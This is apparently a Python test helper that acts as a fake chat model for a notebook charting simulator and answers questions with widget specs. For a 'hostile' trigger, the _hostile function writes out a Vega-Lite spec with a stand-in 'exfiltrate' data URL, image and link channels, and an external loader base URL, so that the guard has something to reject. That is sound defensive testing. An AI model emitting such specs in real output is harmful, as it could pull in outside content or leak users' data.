"""A deterministic, data-aware demo model for the simulator: `Simulator(responder=demo_model)`.

It reads the ``## Data context`` section of the system message (frames as ``### name (kind, rows ×
n columns)`` followed by ``- column: dtype; hints``) and the question, and answers with one sentence
plus a widget spec for one frame:

- "by <column>" → bar chart (sum, or the aggregate a word like "average" asks for);
- "trend", "daily", "over time", "per day/week/month" → line chart over the first date column;
- "show", "list", "top", "rows", "table" → table; "total", "average", "how many" → KPI.

Triggers: a question containing ``broken`` first gets a spec with a misspelled column (so the
repair turn runs); ``hostile`` gets a raw Vega-Lite spec with a data URL, an image mark and a
link (the guard must reject it). A repair turn (a user message starting "Fix the widget spec")
is answered with the spec corrected from the errors' "did you mean" / "use" hints (a raw
Vega-Lite spec comes back unchanged, so it stays rejected). Stdlib only: never imports the client.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from typing import Any

from dbchat_magic.simulator._responders import Reply, SimRequest, content_text

__all__ = ["REPAIR_MARKER", "FrameDesc", "demo_model", "parse_data_context", "repair"]

REPAIR_MARKER = "Fix the widget spec"
_FRAME = re.compile(r"^### (\w+) \((.+?), ([\d,?]+) rows × (\d+) columns?\)\s*$")
_COLUMN = re.compile(r"^- (.+?): ([^;]+?)(?:; (.*))?$")
_ERROR = re.compile(r"^- ([\w.\[\]]+): (.*)$")
_HINT = re.compile(r'(?:did you mean|use) "([^"]+)"')
_NUMERIC = re.compile(r"int|float|double|decimal|long|short|byte|number", re.IGNORECASE)
_DATE = re.compile(r"date|time", re.IGNORECASE)
_TIME_WORDS = {
    "hourly": "hour",
    "per hour": "hour",
    "daily": "day",
    "per day": "day",
    "by day": "day",
    "weekly": "week",
    "per week": "week",
    "by week": "week",
    "monthly": "month",
    "per month": "month",
    "by month": "month",
    "yearly": "year",
    "per year": "year",
    "by year": "year",
}
_AGG_WORDS = (
    ("how many", "count"),
    ("number of", "count"),
    ("count", "count"),
    ("average", "mean"),
    ("mean", "mean"),
    ("median", "median"),
    ("highest", "max"),
    ("maximum", "max"),
    ("max", "max"),
    ("lowest", "min"),
    ("minimum", "min"),
    ("min ", "min"),
    ("distinct", "distinct"),
)


_AGG_PHRASES = {"sum": "total", "mean": "average", "median": "median", "max": "highest",
                "min": "lowest", "distinct": "number of distinct"}
_TREND_WORDS = {"hour": "hourly", "day": "daily", "week": "weekly", "month": "monthly",
                "quarter": "quarterly", "year": "yearly"}


def _what(agg: str, measure: str | None) -> str:
    """``"total revenue"``, ``"number of rows"``: the measured quantity in words."""
    if agg == "count" or measure is None:
        return "number of rows"
    return f"{_AGG_PHRASES.get(agg, agg)} {measure}"


@dataclass
class FrameDesc:
    """One frame as described in the data context."""

    name: str
    kind: str
    rows: str
    columns: dict[str, str] = field(default_factory=dict)

    def of_class(self, cls: str) -> list[str]:
        """Column names whose dtype is "numeric", "date" or "text"."""
        return [c for c, d in self.columns.items() if _dtype_class(d) == cls]


def _dtype_class(dtype: str) -> str:
    if "bool" in dtype.lower():
        return "bool"
    if _DATE.search(dtype):
        return "date"
    return "numeric" if _NUMERIC.search(dtype) else "text"


def parse_data_context(system: str) -> list[FrameDesc]:
    """Frames and columns from the ``## Data context`` section of a system message."""
    start = system.find("## Data context")
    if start < 0:
        return []
    frames: list[FrameDesc] = []
    current: FrameDesc | None = None
    for line in system[start:].splitlines()[1:]:
        if line.startswith("## "):
            break
        m = _FRAME.match(line)
        if m:
            current = FrameDesc(m[1], m[2], m[3])
            frames.append(current)
        elif line.strip() == "sample rows:":
            current = None
        elif current is not None and (c := _COLUMN.match(line)):
            current.columns[c[1]] = c[2].strip()
    return frames


def _mentioned(question: str, names: list[str]) -> list[str]:
    q = question.lower()
    return [n for n in names if n.lower() in q or n.lower().replace("_", " ") in q]


def _pick_frame(question: str, frames: list[FrameDesc]) -> FrameDesc:
    named = [f for f in frames if re.search(rf"\b{re.escape(f.name.lower())}\b", question.lower())]
    if named:
        return named[0]
    return max(frames, key=lambda f: len(_mentioned(question, list(f.columns))))


def _aggregate(question: str, default: str = "sum") -> str:
    q = f" {question.lower()} "
    return next((agg for word, agg in _AGG_WORDS if word in q), default)


def _measure(question: str, frame: FrameDesc) -> str | None:
    nums = frame.of_class("numeric")
    found = _mentioned(question, nums) or nums
    return found[0] if found else None


def _spec_for(question: str, frame: FrameDesc) -> tuple[str, dict[str, Any]]:
    """(sentence, spec) answering ``question`` about ``frame``."""
    q = question.lower()
    measure = _measure(question, frame)
    agg = _aggregate(question) if measure else "count"
    ychan: dict[str, Any] = {"field": measure, "type": "quantitative", "aggregate": agg}
    if agg == "count":
        ychan = {"aggregate": "count", "type": "quantitative"}
    by = re.search(r"\bby (\w+)", q)
    unit = next((u for w, u in _TIME_WORDS.items() if w in q), None)
    dates = frame.of_class("date")
    if dates and (unit or any(w in q for w in ("trend", "over time", "timeline"))):
        unit = unit or "day"
        if agg == "sum" and "daily" in q and "total" not in q:
            ychan["aggregate"] = agg = "mean" if "mean" in q else agg
        spec: dict[str, Any] = {
            "widget": "chart",
            "data": frame.name,
            "mark": "line",
            "x": {"field": dates[0], "type": "temporal", "timeUnit": unit},
            "y": ychan,
        }
        trend = _TREND_WORDS.get(unit, f"{unit}-by-{unit}")
        return f"Here is the {trend} trend of {_what(agg, measure)} in `{frame.name}`.", spec
    texts = frame.of_class("text") + frame.of_class("bool")
    if by:
        cats = _mentioned(by[1], list(frame.columns)) or _mentioned(question, texts) or texts
        if cats:
            return _bar(frame, cats[0], ychan, _what(agg, measure))
    if any(w in q for w in ("show", "list", "top", "rows", "table")):
        cols = list(frame.columns)[:6]
        spec = {"widget": "table", "data": frame.name, "columns": cols, "limit": 10}
        m = re.search(r"\btop (\d+)", q)
        if m and measure:
            spec.update(sort=f"-{measure}", limit=int(m[1]))
            return f"Here are the top {m[1]} rows of `{frame.name}` by {measure}.", spec
        return f"Here are the first 10 rows of `{frame.name}`.", spec
    if any(w in q for w in ("total", "average", "how many", "sum", "mean", "count")):
        spec = {
            "widget": "kpi",
            "data": frame.name,
            "aggregate": agg,
            "label": _what(agg, measure).capitalize(),
            "format": ",.2f" if agg == "mean" else ",.0f",
        }
        if agg != "count":
            spec["field"] = measure
        return f"The {_what(agg, measure)} in `{frame.name}` is shown below.", spec
    if texts:
        return _bar(frame, texts[0], ychan, _what(agg, measure))
    spec = {"widget": "table", "data": frame.name, "columns": list(frame.columns)[:6], "limit": 10}
    return f"Here are the first 10 rows of `{frame.name}`.", spec


def _bar(frame: FrameDesc, category: str, ychan: dict[str, Any],
         what: str) -> tuple[str, dict[str, Any]]:
    """A bar chart of ``ychan`` per ``category``, largest first, with its sentence."""
    spec = {"widget": "chart", "data": frame.name, "mark": "bar",
            "x": {"field": category, "type": "nominal"}, "y": ychan, "sort": "-y"}
    return f"Here is the {what} by {category} in `{frame.name}`, largest first.", spec


def _break(spec: dict[str, Any]) -> dict[str, Any]:
    """The same spec with its first column misspelled (two letters swapped)."""
    broken = json.loads(json.dumps(spec))
    target = broken.get("x") if broken.get("widget") == "chart" else None
    if target and "field" in target:
        name = target["field"]
        target["field"] = name[0] + name[2] + name[1] + name[3:] if len(name) > 3 else name + "_"
    elif broken.get("columns"):
        broken["columns"][0] = broken["columns"][0] + "s"
    elif "field" in broken:
        broken["field"] = broken["field"] + "s"
    else:
        broken["data"] = broken["data"] + "s"
    return broken


def _hostile(frame: FrameDesc) -> dict[str, Any]:
    col = next(iter(frame.columns), "x")
    return {
        "widget": "vega-lite",
        "data": frame.name,
        "spec": {
            "data": {"url": "https://example.com/exfiltrate.csv"},
            "mark": "image",
            "encoding": {
                "x": {"field": col, "type": "nominal"},
                "href": {"field": col},
                "url": {"field": col},
            },
            "usermeta": {"embedOptions": {"loader": {"baseURL": "https://example.com/"}}},
        },
    }


def _set_path(spec: dict[str, Any], path: str, value: str) -> None:
    parts = re.findall(r"[^.\[\]]+", path)
    node: Any = spec
    for part in parts[:-1]:
        node = node[int(part)] if part.isdigit() else node.setdefault(part, {})
    last = parts[-1]
    if last.isdigit():
        node[int(last)] = value
    else:
        node[last] = value


def repair(message: str) -> str:
    """Answer a repair turn: apply each error's suggestion to the spec in ``message``."""
    m = re.search(r"```json\n(.*?)\n```", message, re.DOTALL)
    try:
        spec = json.loads(m[1]) if m else None
    except ValueError:
        spec = None
    if not isinstance(spec, dict):
        return "I could not read that spec."
    if spec.get("widget") == "vega-lite":
        return "```json\n" + json.dumps(spec) + "\n```"  # the demo model insists: still rejected
    for line in message.splitlines():
        err = _ERROR.match(line)
        hint = _HINT.search(err[2]) if err else None
        if err and hint:
            path = err[1] if err[1] != "data" else "data"
            try:
                _set_path(spec, path, hint[1])
            except (KeyError, IndexError, TypeError, ValueError):
                continue
    return "```json\n" + json.dumps(spec) + "\n```"


def demo_model(request: SimRequest) -> Reply:
    """The simulator responder: a sentence plus a widget spec for the frames in the data context."""
    question = request.last_user_message
    if question.startswith(REPAIR_MARKER):
        return Reply(repair(question))
    system = "\n".join(
        content_text(m.get("content")) for m in request.messages if m.get("role") == "system"
    )
    frames = parse_data_context(system)
    if not frames:
        return Reply(
            "I don't see any DataFrames in the data context, so I can't chart anything. "
            "Pass one with `-d name` (for example `%%dbchat -d sales`)."
        )
    frame = _pick_frame(question, frames)
    if "hostile" in question.lower():
        spec = _hostile(frame)
        return Reply(
            f"Here is a custom chart of `{frame.name}`.\n\n```json\n{json.dumps(spec)}\n```\n"
        )
    sentence, spec = _spec_for(question, frame)
    if "broken" in question.lower():
        spec = _break(spec)
    return Reply(f"{sentence}\n\n```json\n{json.dumps(spec)}\n```\n")
